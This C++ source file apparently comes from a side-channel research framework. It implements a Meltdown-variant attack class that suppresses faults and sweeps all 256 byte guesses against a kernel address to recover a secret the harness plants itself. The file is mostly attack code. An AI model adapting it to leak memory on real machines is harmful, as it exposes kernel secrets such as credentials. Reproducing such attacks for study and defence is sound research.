#include "core/attacks/meltdown.h"

namespace whisper::core {

TetMeltdown::TetMeltdown(os::Machine& m, Options opt)
    : ChannelAttack(m, "md", opt, Polarity::Max, /*default_batches=*/6),
      // Classic Meltdown suppresses the fault with a signal handler; TSX is
      // an opt-in acceleration (the paper's transient_begin offers both).
      gadget_(make_tet_gadget(
          {.window = opt.window.value_or(WindowKind::Signal),
           .source = SecretSource::FaultingLoad})) {}

void TetMeltdown::sweep(std::uint64_t kvaddr, int /*batch*/, AttackResult& r) {
  std::array<std::uint64_t, isa::kNumRegs> regs{};
  regs[static_cast<std::size_t>(isa::Reg::RCX)] = kvaddr;
  for (int tv = 0; tv <= 255; ++tv) {
    regs[static_cast<std::size_t>(isa::Reg::RBX)] =
        static_cast<std::uint64_t>(tv);
    analyzer_.add(tv, run_tote(m_, gadget_, regs));
    ++r.probes;
  }
}

void TetMeltdown::execute(std::span<const std::uint8_t> payload,
                          AttackResult& r) {
  decode_bytes(m_.plant_kernel_secret(payload), payload.size(), r);
}

}  // namespace whisper::core
